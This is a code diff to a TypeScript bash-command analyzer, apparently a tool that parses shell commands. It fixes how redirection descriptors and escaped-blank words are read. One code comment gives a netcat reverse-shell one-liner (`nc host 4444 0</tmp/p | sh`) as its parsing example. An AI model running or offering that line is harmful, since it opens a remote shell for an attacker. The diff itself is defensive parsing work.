@@ -861,6 +861,10 @@ export class Analyzer implements BuiltinHost {
         }
       }
     }
+    // `nc host 4444 0</tmp/p | sh`: tree-sitter reads the descriptor glued to a redirection of the
+    // enclosing statement as a last argument; bash reads it as the redirection's descriptor.
+    const lastWord = wordNodes[wordNodes.length - 1];
+    if (lastWord && !lastWord.isName && /^\d+$/.test(this.text(lastWord.node, frame)) && [...redirectNodes, ...(io.redirects ?? [])].some((r) => r.start === lastWord.node.end)) wordNodes.pop();
     const argHost = this.host(frame, id, 'command_substitution', []);
     for (const group of glueAdjacent(wordNodes, frame.source)) {
       const resolved = resolveWord(group.node, group.isName ? this.host(frame, id, 'command_substitution', nameInner) : argHost);
@@ -1451,6 +1455,15 @@ function glueAdjacent(nodes: Array<{ node: SyntaxNode; isName: boolean }>, sourc
       item = { ...item, node: { ...item.node, type: 'concatenation', start: from, end: to, children } };
     }
     const prev = out[out.length - 1];
+    // … and a word made only of escaped blanks between two others (`publish \  --access`: bash
+    // passes " "; the execution oracle's fuzz found it dropped).
+    if (prev) {
+      const gap = source.slice(prev.node.end, from);
+      for (const m of gap.matchAll(/(?<=[ \t])((?:\\[ \t])+)(?=[ \t])/g)) {
+        const start = prev.node.end + m.index!;
+        out.push({ isName: false, node: { type: 'word', named: true, field: null, start, end: start + m[1]!.length, missing: false, children: [], truncated: false } });
+      }
+    }
     // A backslash-newline inside a word is a line continuation: `r\<newline>m` is `rm`.
     if (prev && (prev.node.end === item.node.start || /^(?:\\\r?\n)+$/.test(source.slice(prev.node.end, item.node.start)))) {
       const parts = (n: SyntaxNode): SyntaxNode[] => (n.type === 'concatenation' ? n.children : [n]);
